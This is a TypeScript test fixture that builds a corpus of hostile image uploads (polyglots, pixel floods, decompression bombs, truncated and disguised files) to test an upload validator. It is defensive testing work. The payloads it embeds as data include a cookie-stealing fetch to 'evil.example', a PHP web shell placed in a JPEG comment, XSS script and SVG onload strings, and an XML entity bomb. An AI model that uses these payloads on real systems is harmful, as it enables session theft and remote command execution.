import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import {
  bmp,
  heicLike,
  jpegWithComment,
  jpegWithExifAndGps,
  patchAvifSize,
  patchJpegSize,
  PAYLOAD_MARKER,
  pngWithChunk,
  pngWithHeader,
  realImage,
  webpVp8lHeader,
  webpVp8xHeader,
  zipPayload,
} from './image-files';

/**
 * The hostile-upload corpus of issue #6, built in code. Each file says what must happen to it:
 * - `refused`: the upload fails with a message for the user (matching `message`) and nothing is stored;
 * - `reencoded`: a valid image carrying something else (a polyglot, metadata, a decompression bomb
 *   within the limits) is stored, but only as freshly encoded pixels: the payload is gone.
 */
export type HostileFile = { name: string; bytes: Buffer } & ({ expect: 'refused'; message: RegExp } | { expect: 'reencoded' });

const MB = 1024 * 1024;
const script = `<script>alert('${PAYLOAD_MARKER}')</script>`;
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
const js = Buffer.from(`;fetch('https://evil.example/?c='+document.cookie);/*${PAYLOAD_MARKER}*/`);

const NOT_IMAGE = /not a supported image/;
const TRUNCATED = /incomplete or damaged/;
const FLOOD = /the limit is 50 megapixels/;
const DAMAGED = /could not be read/;

/** A JPEG whose entropy-coded scan is overwritten with a fixed pattern of bytes that are no valid Huffman code. */
async function jpegWithGarbageScan(): Promise<Buffer> {
  const jpeg = Buffer.from(await realImage('jpeg', 256, 256));
  const sos = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  const start = sos + 2 + jpeg.readUInt16BE(sos + 2);
  for (let i = start; i < jpeg.length - 2; i += 1) jpeg[i] = i % 2 ? 0xff : 0xd3;
  return jpeg;
}

/** An ISO media box (size, type, payload), as an AVIF polyglot appends one. */
function isoBox(type: string, payload: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + payload.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, payload]);
}

/** Builds every file of the corpus (about 45 files, a few seconds). */
export async function buildHostileUploads(): Promise<HostileFile[]> {
  const [jpeg, png, webp, avif, gif, tiff] = await Promise.all([
    realImage('jpeg', 320, 240),
    realImage('png', 320, 240),
    realImage('webp', 320, 240),
    realImage('avif', 320, 240),
    realImage('gif', 32, 32),
    realImage('tiff', 32, 32),
  ]);
  const refused = (name: string, bytes: Buffer, message: RegExp): HostileFile => ({ name, bytes, expect: 'refused', message });
  const reencoded = (name: string, bytes: Buffer): HostileFile => ({ name, bytes, expect: 'reencoded' });
  const cut = (bytes: Buffer, fraction: number) => bytes.subarray(0, Math.floor(bytes.length * fraction));
  const oversized = Buffer.alloc(16 * MB + 1);
  jpeg.copy(oversized);
  const justOver = Buffer.alloc(15 * MB + 1);
  png.copy(justOver);
  // A 20000 × 20000 PNG whose compressed stream really holds zeros: 1.2 GB decoded from a few KB.
  const bombRows = Buffer.alloc((20_000 * 3 + 1) * 64);
  const [bigPng, bigJpeg] = await Promise.all([
    sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer(),
    sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#000' } }).jpeg().toBuffer(),
  ]);

  return [
    // Not images at all, whatever their names say.
    refused('empty.jpg', Buffer.alloc(0), /empty/),
    refused('notes.txt renamed photo.jpg', Buffer.from('Meeting notes, not a photo.\n'), NOT_IMAGE),
    refused('svg-with-script.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`), /SVG, HTML or XML/),
    refused('svg-with-bom.png', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`<svg>${script}</svg>`)]), /SVG, HTML or XML/),
    refused('page.html named .jpg', html, /SVG, HTML or XML/),
    refused('html-then-png.png', Buffer.concat([html, png]), NOT_IMAGE),
    refused('xml-entity-bomb.webp', Buffer.from('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'), /SVG, HTML or XML/),
    refused('script.js named .avif', js, NOT_IMAGE),
    refused('document.pdf named .jpg', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n'), /PDF/),
    refused('archive.zip named .png', zipPayload(), /ZIP/),
    refused('animation.gif', gif, /GIF/),
    refused('bitmap.bmp', bmp(), /BMP/),
    refused('scan.tiff', tiff, /TIFF/),
    refused('iphone.heic', heicLike(), /HEIC/),
    refused('favicon.ico', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0]), /icon/),
    refused('null-bytes.jpg', Buffer.alloc(4096), NOT_IMAGE),
    refused('wrong-magic.png (first byte changed)', Buffer.concat([Buffer.from([0x88]), png.subarray(1)]), NOT_IMAGE),
    refused('wrong-magic.jpg (JFIF without SOI)', jpeg.subarray(2), NOT_IMAGE),
    // Too big in bytes.
    refused('oversized-16MB.jpg', oversized, /limit is 15 MB/),
    refused('just-over-15MB.png', justOver, /limit is 15 MB/),
    // Pixel floods: the header declares more pixels than the limit; refused before decoding.
    refused('pixel-flood-20000x20000.png', pngWithHeader({ width: 20_000, height: 20_000 }), FLOOD),
    refused('pixel-flood-20000x20000.jpg', patchJpegSize(jpeg, 20_000, 20_000), FLOOD),
    refused('pixel-flood-65535x65535.jpg', patchJpegSize(jpeg, 65_535, 65_535), FLOOD),
    refused('pixel-flood-16384x16384-vp8x.webp', webpVp8xHeader(16_384, 16_384), FLOOD),
    refused('pixel-flood-16384x16384-vp8l.webp', webpVp8lHeader(16_384, 16_384), FLOOD),
    refused('pixel-flood-20000x20000.avif', patchAvifSize(avif, 20_000, 20_000), FLOOD),
    refused('pixel-flood-4294967295-wide.png', pngWithHeader({ width: 0xffffffff, height: 1 }), FLOOD),
    refused('long-side-30000x10.png', pngWithHeader({ width: 30_000, height: 10 }), FLOOD),
    refused('decompression-bomb-20000x20000.png', pngWithHeader({ width: 20_000, height: 20_000, idat: deflateSync(bombRows, { level: 9 }) }), FLOOD),
    // Zero dimensions.
    refused('zero-width.png', pngWithHeader({ width: 0, height: 100 }), /empty image/),
    refused('zero-height.jpg', patchJpegSize(jpeg, 100, 0), /empty image/),
    // Cut short.
    refused('truncated-half.jpg', cut(jpeg, 0.5), TRUNCATED),
    refused('truncated-half.png', cut(png, 0.5), TRUNCATED),
    refused('truncated-half.webp', cut(webp, 0.5), TRUNCATED),
    refused('truncated-half.avif', cut(avif, 0.5), TRUNCATED),
    refused('png-signature-only.png', png.subarray(0, 8), TRUNCATED),
    refused('jpeg-soi-only.jpg', jpeg.subarray(0, 4), TRUNCATED),
    // Well-formed on the outside, broken inside: only the decoder can tell.
    refused('png-with-garbage-idat.png', pngWithHeader({ width: 64, height: 64, idat: Buffer.from('this is not a zlib stream at all, just text') }), DAMAGED),
    refused('jpeg-with-garbage-scan.jpg', await jpegWithGarbageScan(), DAMAGED),
    refused('webp-with-garbage-vp8l.webp', webpVp8lHeader(300, 200), DAMAGED),
    // Valid images carrying something else: stored, but only re-encoded.
    reencoded('polyglot-png+zip.png', Buffer.concat([png, zipPayload()])),
    reencoded('polyglot-png+html.png', Buffer.concat([png, html])),
    reencoded('polyglot-jpeg+js.jpg', Buffer.concat([jpeg, js])),
    reencoded('polyglot-jpeg+html-after-eoi.jpg', Buffer.concat([jpeg, html])),
    reencoded('polyglot-webp+html-after-riff.webp', Buffer.concat([webp, html])),
    reencoded('polyglot-avif+html-in-free-box.avif', Buffer.concat([avif, isoBox('free', html)])),
    reencoded('jpeg-comment-with-php.jpg', jpegWithComment(jpeg, `<?php system($_GET['c']); /*${PAYLOAD_MARKER}*/ ?>`)),
    reencoded('png-text-chunk-with-svg.png', pngWithChunk(png, 'tEXt', Buffer.from(`Comment\0<svg onload=alert('${PAYLOAD_MARKER}')>`, 'latin1'))),
    reencoded('jpeg-exif-gps-with-script.jpg', await jpegWithExifAndGps()),
    reencoded('bomb-within-limits-7000x7000.png', bigPng),
    reencoded('bomb-within-limits-7000x7000.jpg', bigJpeg),
  ];
}

/** Strings that must never be in a stored file. */
export const UNSAFE_MARKERS = [PAYLOAD_MARKER, '<script', '<?php', '<svg', '<html', 'PK\x03\x04', 'SecretCam', 'document.cookie'];
